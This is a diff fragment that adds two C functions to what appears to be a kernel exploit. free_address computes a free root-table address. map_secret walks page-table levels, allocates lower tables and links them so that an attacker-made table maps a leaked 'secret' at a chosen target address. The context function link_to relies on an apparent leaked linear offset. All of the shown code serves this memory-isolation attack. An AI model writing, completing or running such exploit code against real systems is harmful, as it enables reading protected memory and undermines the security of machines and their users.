@@ -244,6 +244,31 @@ u64 link_to(u64 kernel_addr, unsigned int level)
 	return (entry & ~format->address_mask) | (kernel_addr - leak.linear_offset);
 }
 
+/* An address whose entry in the root is free. */
+char *free_address(unsigned int index)
+{
+	return (char *)((u64)index << (__builtin_ctzl(PAGE_SIZE) +
+				       entry_bits() * (leak.levels - 1)));
+}
+
+/*
+ * Maps the secret at @target: @table, of the attacker's making, is of the level that a
+ * root links.
+ */
+void map_secret(u64 *table, const char *target)
+{
+	unsigned int level;
+
+	for (level = leak.levels - 1; level > 1; level--) {
+		u64 *lower = map_at(NULL, PAGE_SIZE, MAP_SHARED);
+
+		memset(lower, 0, PAGE_SIZE);
+		table[entry_index(target, level)] = link_to(address_of(lower), level);
+		table = lower;
+	}
+	table[entry_index(target, 1)] = leaf(leak.secret);
+}
+
 /*
  * Processes
  */
